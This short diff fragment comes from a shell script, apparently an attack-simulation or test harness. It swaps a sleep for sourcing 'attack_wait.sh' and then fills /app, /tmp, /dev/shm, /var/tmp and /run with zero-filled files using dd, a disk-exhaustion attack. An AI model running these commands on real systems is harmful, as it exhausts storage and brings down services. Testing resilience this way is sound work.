@@ -1,4 +1,4 @@
-sleep 1
+. ./attack_wait.sh
 for folder in /app /tmp /dev/shm /var/tmp /run; do
     dd if=/dev/zero of=$folder/full bs=1M 2>/dev/null
     n=0
